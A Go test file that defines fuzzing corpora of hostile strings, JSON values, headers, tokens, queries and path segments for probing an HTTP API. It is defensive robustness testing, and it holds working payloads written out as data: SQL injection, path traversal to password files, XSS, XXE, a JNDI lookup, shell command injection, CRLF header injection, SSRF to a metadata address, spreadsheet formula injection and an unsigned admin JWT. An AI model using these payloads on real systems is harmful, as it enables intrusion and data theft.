package api_test

import (
	"math/rand/v2"
	"strings"
)

// raw is a piece of JSON that is sent as it stands, whether or not it is valid.
type raw string

// hostileTexts are texts that have broken other programs: each has its class beside it. None
// has a word of internals in it, which an answer may not show, see fuzz_test.go.
var hostileTexts = []string{
	"\x00", "a\x00b", "\x07\x08\x1b[31m", "\x7f", // control characters
	"\u202egnp.exe", "a\u200bb\u200d\ufeff", "\u2028\u2029", "\u0301\u0301\u0301", "\ufdd0\U0010fffe", // what turns, hides or joins text
	"Zalgo" + strings.Repeat("\u0335\u0321", 60), "🏳️‍🌈👩‍👩‍👧‍👦", "ﬀ İı ſ K", // what grows or shrinks when its case changes
	`' OR '1'='1`, `'; DROP TABLE tickets; --`, `" OR ""="`, `1) UNION SELECT NULL--`, `%' ESCAPE '!`, `\'; --`, "$1 ? :a @b", // statements
	"%", "_", "%_%\\", "100%", "a\\", // patterns of LIKE
	"x\r\nSet-Cookie: a=b", "x\r\n\r\n<html>", "x\nBcc: all@desk.example", "\r", "x%0d%0aLocation: https://else.example", // new headers
	"../../../../etc/passwd", `..\..\boot.ini`, "/etc/shadow", "file:///etc/passwd", "....//....//", "%2e%2e%2f", "a/b/../c", "CON", "nul.txt", ".", "..", "~", // paths
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `<![CDATA[x]]>`, `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, // pages
	"{{7*7}}", "${7*7}", "{{.Key}}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://else.example/a}", "$(id)", "`id`", "; id", "| id", // templates and shells
	"%s%s%s%n", "%d%x%p%v", "%99999999d", // formats
	"=1+1", "=cmd|' /C calc'!A0", "@SUM(A1)", "+1", "-1+1", // spreadsheets
	"http://127.0.0.1:22/", "http://169.254.169.254/latest/meta-data/", "https://[::1]/", "https://desk.example@else.example/", "https://xn--a.example/", "https://0x7f.1/", "gopher://a.example/", "//else.example", // addresses
	"a@b", "a@b@c.example", "\"a b\"@c.example", "<a@b.example>", "a@[127.0.0.1]", "a@-.example", "A@xn--.example", "ä@ü.example", strings.Repeat("a", 64) + "@" + strings.Repeat("b.", 94) + "example", // mail
	"0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999999Z", "2026-02-30", "2026-12-31T23:59:60Z", "2026-11-25T18:30:00+24:00", "-0001-01-01", "10000-01-01", "2026-11-25t18:30:00z", "1e9", "0000-00-00", // dates
	"true", "null", "undefined", "NaN", "Infinity", "-0", "0x1F", "1_000", "１２３", "٣", "9223372036854775808", "-9223372036854775809", "1e308", strings.Repeat("9", 400), // numbers in words
	"0198f2a4-7d3c-7000-8000-5a5a5a5a5a5a", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "0198F2A4-7D3C-7000-8000-5A5A5A5A5A5G", // identifiers
	strings.Repeat("a", 40) + "!", strings.Repeat("a@", 60), strings.Repeat("(", 300), strings.Repeat("a.", 200) + "!", strings.Repeat(" ", 500) + "x", strings.Repeat("1-", 200), // what makes patterns backtrack
	"constructor", "__proto__", "toString", "$where", "$ref", "", " ", "\t", "\u00a0", "\u3000", // names that mean something elsewhere, and nothing
	"\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", "a\xf0\x9f", "\xf8\x88\x80\x80\x80", // no UTF-8
}

// hostileValues are hostile where a field of JSON is expected.
var hostileValues = []any{
	raw(`"\ud800"`), raw(`"\udc00\ud800"`), raw(`"\u0000"`), raw(`"\/\b\f"`), raw("\"\xff\""), raw("\"\n\""), // as only JSON can say them
	nil, true, false, raw(`0`), raw(`-0`), raw(`-0.0`), raw(`-1`), raw(`1e308`), raw(`-1e308`), raw(`1e999`), raw(`1e-999`), raw(`0.1`), raw(`4.0`), raw(`4e0`), raw(`0e0`),
	raw(`9007199254740993`), raw(`9223372036854775807`), raw(`9223372036854775808`), raw(`-9223372036854775808`), raw(`-9223372036854775809`), raw(`18446744073709551616`), raw(`2147483648`),
	raw(`01`), raw(`.5`), raw(`1.`), raw(`+1`), raw(`NaN`), raw(`0x10`), raw(`'a'`), raw(`undefined`), raw(``), // no JSON at all
	[]any{}, object{}, []any{nil}, []any{[]any{[]any{}}}, object{{"", nil}}, object{{"a", object{{"b", []any{1, "x", nil}}}}}, []any{"a", 1, true, object{}},
	raw(strings.Repeat("[", 31) + strings.Repeat("]", 31)), raw(strings.Repeat("[", 40) + strings.Repeat("]", 40)), raw(strings.Repeat(`{"a":`, 40) + "1" + strings.Repeat("}", 40)),
	raw(`{"a":1,"a":2}`), raw(`{"a":1,"A":2}`), raw("[" + strings.Repeat("1,", 2000) + "1]"), raw("[" + strings.Repeat(`"a",`, 300) + `"a"]`), raw("[" + strings.Repeat(`{},`, 300) + `{}]`),
}

// hostileHeaders are values that a client can get past a server of HTTP, but for line ends.
var hostileHeaders = []string{
	"", " ", ",", ";", "*", "\"", "\"\"", "W/\"1\"", "\"1\", \"2\"", "1", "\"0\"", "\"-1\"", "\"99999999999999999999\"", "\"1", "abc", "\t", "ä", "\xff\xfe",
	strings.Repeat("a", 255), strings.Repeat("a", 256), strings.Repeat("a,", 2000), strings.Repeat("de-CH;q=0.8,", 300), "de;q=2", "de-x-" + strings.Repeat("a-", 100), "xx-XX-u-", "*;q=0", "i-klingon, und, mul",
	"../../etc/passwd", "' OR '1'='1", "{{7*7}}", "%0d%0aSet-Cookie: a=b", "<script>alert(1)</script>", "\u202e", "${jndi:ldap://else.example/a}", "%s%n", "NaN", "null",
}

// hostileAuthorizations open nothing. %s is a token that does.
var hostileAuthorizations = []string{
	"Bearer", "Bearer ", "Bearer  ", "bearer dbs_", "Bearer dbs_wrong", "Bearer dbt_wrong", "Bearer dbo_wrong", "Bearer dbl_wrong", "Bearer %sx", "Bearer x%s", "Bearer %s, Bearer dbs_x", "Bearer %s%00",
	"Basic QTpC", "Basic %s", "Digest username=\"a\"", "%s", "Token %s", "Bearer null", "Bearer undefined", "Bearer ' OR '1'='1", "Bearer ../../etc", "Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoiYWRtaW5pc3RyYXRvciJ9.",
	"Bearer dbs_" + strings.Repeat("A", 43), "Bearer dbs_" + strings.Repeat("A", 5000), "Bearer \xff\xfe", "Bearer dbs_%00", "Negotiate YII=",
}

// hostileQueries are no proper query.
var hostileQueries = []string{
	"%", "%zz", "%u0041", "a=b;c=d", "&&&", "=", "=x", "a&a=1&a=2", "limit=1&limit=2", "limit[]=1", "limit[a]=1", "q=%00", "q=%ff", "q=%c0%af", "cursor=%7b%7d", "?", "??a=b", "a=" + strings.Repeat("x", 9000),
	"__proto__=1", "unknown=1", "Limit=1", "q=%0d%0aSet-Cookie:a=b", strings.Repeat("a=1&", 500), "limit=1e1", "limit=0x1", "limit=%2b1", "limit=1.0", "limit=-0", "limit=9223372036854775808", "sort=due%00",
}

// hostileSegments are parts of an address that name nothing, beside hostileTexts.
var hostileSegments = []string{
	"0", "-1", "1", "1001", "00001001", "9223372036854775807", "9223372036854775808", "1e3", "1001.0", "0x3e9", "%s", "us.ics", "us.ICS", ".ics", "1001.ics", "export", "import", "redrive", "*", "a*b", ":id", "{id}",
	strings.Repeat("a", 3000), "1001%00", "1001 ", " 1001", "1001;a=b", "１００１", "me", "none", "all",
}

// oneOf picks from a list.
func oneOf[T any](r *rand.Rand, all []T) T { return all[r.IntN(len(all))] }

// hostileText is one of the above, and now and then a long one.
func hostileText(r *rand.Rand) string {
	text := oneOf(r, hostileTexts)
	switch r.IntN(40) {
	case 0:
		return strings.Repeat(text, 1+5000/(1+len(text)))
	case 1:
		return "Ada " + text + " Ada"
	}
	return text
}
